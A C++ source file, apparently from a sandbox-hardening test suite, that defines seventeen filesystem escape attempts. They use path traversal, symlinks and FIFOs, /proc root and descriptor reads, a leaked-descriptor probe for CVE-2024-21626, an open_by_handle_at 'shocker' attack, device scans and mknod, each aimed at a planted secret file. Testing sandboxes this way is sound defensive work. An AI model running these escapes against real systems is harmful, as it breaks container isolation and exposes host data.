// Reading what lies outside.
#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <array>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "suite/programs/attack.h"

namespace belljar::suite {

namespace {

Outcome host_file(const Params& given) { return read_and_tell(given.get("secret")); }

Outcome dot_dot(const Params& given) {
  const std::string climb = "../../../../../../../../../../../..";
  const int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const std::string beyond = climb + given.get("secret");
  const int fd = ::openat(root, beyond.c_str(), O_RDONLY | O_CLOEXEC);
  return any_of({read_and_tell(beyond), read_and_tell(given.get("shared") + "/" + beyond),
                 fd < 0 ? denied("openat " + beyond) : tell_descriptor(fd, beyond)});
}

Outcome symlink_out(const Params& given) {
  const std::string link = scratch_path(given, "link");
  if (::symlink(given.get("secret").c_str(), link.c_str()) != 0) return denied("make a symbolic link");
  return read_and_tell(link);
}

Outcome symlink_left_for_collector(const Params& given) {
  const std::string link = given.get("out") + "/result";
  if (::symlink(given.get("secret").c_str(), link.c_str()) != 0) return denied("make a symbolic link");
  return done("left a link to a host file as a result");
}

Outcome parent_left_for_collector(const Params& given) {
  const std::string link = given.get("out") + "/folder";
  if (::symlink(given.get("outside").c_str(), link.c_str()) != 0) return denied("make a symbolic link");
  return done("left a link to a host folder as the folder of a result");
}

Outcome pipe_left_for_collector(const Params& given) {
  if (::mkfifo((given.get("out") + "/result").c_str(), 0666) != 0) return denied("make a FIFO");
  return done("left a FIFO as a result");
}

Outcome process_root(const Params& given) {
  const std::string secret = given.get("secret");
  return any_of({read_and_tell("/proc/" + given.get("wpid") + "/root" + secret), read_and_tell("/proc/1/root" + secret),
                 read_and_tell("/proc/self/root/.." + secret), read_and_tell("/proc/self/task/1/root" + secret)});
}

Outcome process_descriptors(const Params& given) {
  const std::string process = "/proc/" + given.get("wpid");
  return any_of({read_and_tell(process + "/fd/" + given.get("secretfd")),
                 read_and_tell(process + "/cwd" + given.get("secret")),
                 read_and_tell("/proc/1/cwd" + given.get("secret"))});
}

// CVE-2024-21626: a folder outside, left open by whoever started us.
Outcome leaked_folder(const Params&) {
  Outcome last = denied("no folder was left open", EBADF);
  for (int folder = 3; folder < 256; ++folder) {
    const int fd = ::openat(folder, "secret", O_RDONLY | O_CLOEXEC);
    if (fd >= 0) return tell_descriptor(fd, "secret beneath descriptor " + std::to_string(folder));
    if (errno != EBADF) last = denied("openat descriptor " + std::to_string(folder));
  }
  return last;
}

std::vector<unsigned char> from_hex_text(const std::string& hex) {
  std::vector<unsigned char> bytes;
  for (std::size_t i = 0; i + 1 < hex.size(); i += 2) {
    bytes.push_back(static_cast<unsigned char>(std::strtol(hex.substr(i, 2).c_str(), nullptr, 16)));
  }
  return bytes;
}

Outcome file_handle_shocker(const Params& given) {
  const std::string text = given.get("handle");
  const std::size_t dot = text.find('.');
  if (dot == std::string::npos) return unsupported("the file system of the canary gives no file handles");
  const std::vector<unsigned char> bytes = from_hex_text(text.substr(dot + 1));
  alignas(file_handle) std::array<unsigned char, sizeof(file_handle) + MAX_HANDLE_SZ> buffer{};
  auto* handle = reinterpret_cast<file_handle*>(buffer.data());
  handle->handle_bytes = static_cast<unsigned>(bytes.size());
  handle->handle_type = std::atoi(text.c_str());
  std::memcpy(buffer.data() + offsetof(file_handle, f_handle), bytes.data(),
              std::min<std::size_t>(bytes.size(), MAX_HANDLE_SZ));
  const int mount = ::open(given.get("shared").c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int fd = ::open_by_handle_at(mount, handle, O_RDONLY);
  if (fd < 0) return denied("open_by_handle_at");
  return tell_descriptor(fd, "file by handle");
}

Outcome open_device(const char* path, int flags) {
  const int fd = ::open(path, flags | O_CLOEXEC | O_NONBLOCK);
  return fd < 0 ? denied(std::string{"open "} + path) : escaped(std::string{"opened "} + path);
}

// Names that a real /dev has. None of them is read from: opening is the trophy.
Outcome device_scan(const Params&) {
  Outcome last = denied("no device");
  for (const char* path :
       {"/dev/kmsg", "/dev/mem", "/dev/port", "/dev/loop-control", "/dev/snapshot", "/dev/nvram", "/dev/hpet",
        "/dev/rtc0", "/dev/cpu/0/msr", "/dev/uinput", "/dev/userfaultfd", "/dev/vhost-net", "/dev/vhost-vsock",
        "/dev/dri/card0", "/dev/nvidia0", "/dev/btrfs-control", "/dev/autofs"}) {
    const Outcome tried = open_device(path, O_RDONLY);
    if (tried.kind == Outcome::Kind::escaped) return tried;
    last = tried;
  }
  return last;
}

Outcome kvm(const Params&) {
  const int fd = ::open("/dev/kvm", O_RDWR | O_CLOEXEC);
  return fd < 0 ? denied("open /dev/kvm") : escaped("opened /dev/kvm");
}

Outcome fuse_device(const Params&) { return open_device("/dev/fuse", O_RDWR); }
Outcome tun_device(const Params&) { return open_device("/dev/net/tun", O_RDWR); }
Outcome vsock_device(const Params&) { return open_device("/dev/vsock", O_RDONLY); }

Outcome disk(const Params&) {
  return any_of({open_device("/dev/vda", O_RDONLY), open_device("/dev/sda", O_RDONLY),
                 open_device("/dev/nvme0n1", O_RDONLY), open_device("/dev/loop0", O_RDONLY),
                 open_device("/dev/dm-0", O_RDONLY)});
}

Outcome make_device(const Params& given) {
  const std::string path = scratch_path(given, "kmsg");
  constexpr unsigned kMemoryDevices = 1;
  constexpr unsigned kKernelLog = 11;
  if (::mknod(path.c_str(), S_IFCHR | 0666, makedev(kMemoryDevices, kKernelLog)) != 0) return denied("mknod");
  return open_device(path.c_str(), O_RDONLY);
}

constexpr Attack kAttacks[] = {
    {"FS01", host_file},
    {"FS02", dot_dot},
    {"FS03", symlink_out},
    {"FS04", symlink_left_for_collector},
    {"FS05", parent_left_for_collector},
    {"FS06", pipe_left_for_collector},
    {"FS07", process_root},
    {"FS08", process_descriptors},
    {"FS09", leaked_folder},
    {"FS10", file_handle_shocker},
    {"FS11", device_scan},
    {"FS12", kvm},
    {"FS13", fuse_device},
    {"FS14", tun_device},
    {"FS15", vsock_device},
    {"FS16", disk},
    {"FS17", make_device},
};

}  // namespace

std::span<const Attack> fs_attacks() { return kAttacks; }

}  // namespace belljar::suite
